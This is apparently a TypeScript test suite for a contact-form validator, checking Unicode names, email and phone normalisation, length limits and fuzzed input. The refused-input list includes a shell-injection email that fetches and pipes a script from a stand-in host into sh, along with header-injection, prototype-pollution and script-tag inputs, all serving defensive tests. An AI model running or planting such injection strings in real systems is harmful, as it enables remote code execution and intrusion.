import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { checkMessage, emptyMessage, type FieldName, fields, type Message, readMessage } from './message.ts';

const good: Message = { ...emptyMessage, firstName: 'Ada', email: 'ada@example.com', message: 'Hello' };
const errorsOf = (changes: Partial<Message>) => {
  const checked = checkMessage({ ...good, ...changes });
  return checked.ok ? {} : checked.errors;
};

describe('a message', () => {
  it('needs only a first name, an email address and a message', () => {
    assert.deepEqual(checkMessage(good), { ok: true, message: good });
    assert.deepEqual(Object.keys(errorsOf({ firstName: ' ', email: '', message: '\n' })), [
      'firstName',
      'email',
      'message',
    ]);
  });

  const accepted: Partial<Record<FieldName, readonly string[]>> = {
    firstName: ['Ọlábísí', "O'Brien", '李', 'Jean-Luc', 'Ñandú', 'ߊߓߊ', 'Ngozi 👩🏾‍🌾'],
    email: ['a+tag@b.co', "o'brien@x.org", 'ọlá@ilé.ng', 'a@sub.example.com.ng', 'ada@xn--il-cja.example'],
    phone: ['0803 000 0000', '(0)803-000-0000', '(+234) 803 000 0000', '+234.803.000.0000 ext. 12'],
    subject: ['Ọlábísí', 'Ngozi 👩🏾‍🌾'],
    message: ['one\n\ttwo <script>alert(1)</script>'],
  };
  const refused: Partial<Record<FieldName, readonly string[]>> = {
    phone: ['call me', '12', '+', '0803\u2028000'],
    subject: ['a\nb', 'a\rb', 'a\0b', 'a\u001bb', 'a\u2028b', 'a\ud800b'],
    email: [
      'a',
      'ada.example.com',
      'a@b',
      '@b.co',
      'a@b..co',
      'a@-b.co',
      'a@b.co@c.co',
      `a@${'ọlá.'.repeat(30)}ng`,
      'a b@c.co',
      '"a b"@b.co',
      'a@b.co, c@d.co',
      'a@b.co <c@d.co>',
      'a<b@c.co',
      'Ada <ada@visitor.example> and <obi@visitor.example>',
      // Typographic quotes and dashes, wide letters, and signs that could mean anything.
      'ada@my”farm.example',
      'ada@visitor.example”',
      '‹ada@visitor.example›',
      '‘ada@visitor.example’',
      'ada@my–farm.example',
      'ada…@visitor.example',
      "'ada'@visitor.example",
      'oʻbꞌr’ien@visitor.example',
      '＜ada＠visitor．example＞',
      'ａda@visitor.example',
      'oﬃce@visitor.example',
      'ada@visitor™.example',
      'ada²@visitor.example',
      'adaª@visitor.example',
      'ada@visitor1⁄2.example',
      'a\u{e0041}@b.co',
      'a@\u0301b.example',
      '\u0301a@b.co',
      'a!b@b.co',
      '=?utf-8?q?a?=@b.co',
      // What a shell would read as a command.
      `\`curl\${IFS}evil.example|sh\`@visitor.example`,
      ...[...'`$|&{}'].map((sign) => `a${sign}b@b.co`),
      ...[...'–*_~=/+-#%^?.ˈˌـーªºʰⁿ'].map((sign) => `${sign}ada@visitor.example`),
    ],
  };
  it('takes names in every script, addresses that can be answered and phone numbers as people write them', () => {
    for (const [name, texts] of Object.entries(accepted))
      for (const text of texts) assert.deepEqual(errorsOf({ [name]: text }), {}, text);
  });

  it('says what is wrong with others', () => {
    for (const [name, texts] of Object.entries(refused))
      for (const text of texts)
        assert.deepEqual(Object.keys(errorsOf({ [name]: text })), [name], JSON.stringify(text));
    assert.equal(errorsOf({ email: 'a' }).email, 'Enter an email address in the form name@example.com');
    assert.ok(errorsOf({ email: 'a@b.co\r\nBcc: x@y.z' }).email);
  });

  it('is mended where only one reading is possible, and taken without signs that nobody can see', () => {
    const mended: readonly (readonly [FieldName, typed: string, kept: string])[] = [
      ['email', '\t ada@visitor.example\u00a0\n', 'ada@visitor.example'],
      ['email', '\u202aada@visitor.example\u202c\u200b', 'ada@visitor.example'],
      ['email', 'a\u180ed\u3164a\u2061@visitor.example', 'ada@visitor.example'],
      ['email', 'a\u200bd\u200da@vis\u00aditor\ufeff.example', 'ada@visitor.example'],
      ['email', 'ada@می\u200cخواهم.example', 'ada@می\u200cخواهم.example'],
      ['email', 'ada@visitor.example.', 'ada@visitor.example'],
      ['email', 'Obi Ada <ada@visitor.example>,', 'ada@visitor.example'],
      ['email', '"Obi, Ada" < ada@visitor.example >', 'ada@visitor.example'],
      ['email', '<Mailto:ada@visitor.example>.', 'ada@visitor.example'],
      ['email', 'mailto: ada@visitor.example', 'ada@visitor.example'],
      ['phone', '\u202a+234\u2060803\u00ad000\ufe0d0000\u202c', '+2348030000000'],
      ['phone', '0803\u2010000\u20150000', '0803-000-0000'],
      ['phone', '０８０３\t０００\u00a0００００', '0803 000 0000'],
      ['phone', '+٢٣٤ ٨٠٣ ٠٠٠ ٠٠٠٠', '+234 803 000 0000'],
      ['phone', '۰۸۰۳\u202f۰۰۰\u2007۰۰۰۰', '0803 000 0000'],
      ['subject', 'From a slide\vwith\ttwo lines\f', 'From a slide with two lines'],
      ['lastName', 'O\u0092Brien', 'O’Brien'],
      ['subject', '\u2068Ada\u2069 \u202bObi\u202c', 'Ada Obi'],
      ['message', '\u0093Don\u0092t\u0094 \u0096 5 \u0080\u0081', '“Don’t” – 5 €'],
      ['message', '👩🏾\u200d🌾 ❤\ufe0f می\u200cخواهم', '👩🏾\u200d🌾 ❤\ufe0f می\u200cخواهم'],
      ['message', 'non\u001estop, pi\u001fano\u0007', 'non-stop, piano'],
      ['message', '@\u2068Ada\u2069 asked\vTwo\fThree\u2028Four', '@Ada asked\nTwo\nThree\nFour'],
    ];
    for (const [name, typed, kept] of mended) {
      const checked = checkMessage({ ...good, [name]: typed });
      assert.equal(checked.ok ? checked.message[name] : checked.errors[name], kept);
    }
  });

  it('reads only the six fields and refuses a field that comes twice', () => {
    const read = readMessage([
      ['firstName', 'Ada'],
      ['role', 'admin'],
      ['__proto__', 'x'],
      ['message', 'a\r\nb\rc'],
    ]);
    assert.deepEqual(read, {
      message: { ...emptyMessage, firstName: 'Ada', message: 'a\nb\nc' },
      repeated: false,
    });
    const twice = readMessage(['a', 'b'].map((email) => ['email', email]));
    assert.equal(twice.repeated, true);
  });

  it('needs a visible name, and keeps the joiners that some scripts need', () => {
    const nothing = fc.string({
      unit: fc.constantFrom(
        ...'\u200b\u200c\u200d\u2060\ufeff\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufe0f\u00a0\u3000 \t',
      ),
      maxLength: 200,
    });
    fc.assert(
      fc.property(nothing, fc.constantFrom(...fields), (text, { name, required }) => {
        assert.deepEqual(Object.keys(errorsOf({ [name]: text })), required ? [name] : []);
        const checked = checkMessage({ ...good, [name]: text });
        assert.equal(checked.ok && checked.message[name], required ? false : '');
      }),
    );
    for (const name of ['می‌خواهم', 'क्‍ष', '👨‍👩‍👧', 'ᠮᠣᠩᠭᠣᠯ\u180eᠠ']) {
      const checked = checkMessage({ ...good, firstName: name });
      assert.equal(checked.ok && checked.message.firstName, name);
    }
  });

  it('may be as long as the limit of each field, after trimming, and not one character longer', () => {
    const filled: Readonly<Record<FieldName, (length: number) => string>> = {
      firstName: (length) => 'ọ'.repeat(length),
      lastName: (length) => '李'.repeat(length),
      email: (length) => `a@${'b.'.repeat(125)}co`.slice(0, length),
      phone: (length) => '0'.repeat(length),
      subject: (length) => '👩'.repeat(length),
      message: (length) => `${'a\n'.repeat(length).slice(0, length - 1)}z`,
    };
    for (const { name, limit } of fields) {
      const text = filled[name](limit);
      const checked = checkMessage({ ...good, [name]: `\t\u00a0${text} \u3000\ufeff` });
      assert.equal(checked.ok && checked.message[name], text);
      // Before every other check, so that no text costs more to check than its limit.
      const errors = errorsOf({ [name]: `${text}@${'z'.repeat(1233)}` });
      const max = limit.toLocaleString('en');
      assert.ok(errors[name]?.endsWith(` ${max} characters or fewer: take out 1,234`), errors[name]);
      assert.match(errorsOf({ [name]: `@${text}` })[name] ?? '', /: take out 1$/);
    }
  });

  it('is either stored whole or refused with a sentence for each wrong field, for any input', () => {
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 400 }), fc.string({ maxLength: 400 }));
    const typed = fc.record(
      Object.fromEntries(fields.map(({ name }) => [name, text])),
    ) as fc.Arbitrary<Message>;
    fc.assert(
      fc.property(typed, (message) => {
        const checked = checkMessage(readMessage(Object.entries(message)).message);
        if (!checked.ok) {
          for (const sentence of Object.values(checked.errors)) assert.match(sentence, /^\p{Lu}.{5,}/u);
          return;
        }
        assert.deepEqual(checkMessage(checked.message), checked);
        for (const { name, limit } of fields) {
          const value = checked.message[name];
          assert.ok([...value].length <= limit && value.isWellFormed());
          assert.doesNotMatch(value, name === 'message' ? /[^\P{Cc}\n\t]/u : /\p{Cc}/u);
          assert.doesNotMatch(value, /[\u202a-\u202e\u2066-\u2069]/);
        }
      }),
      { numRuns: Number(process.env.FUZZ_RUNS ?? 200) },
    );
  });
});
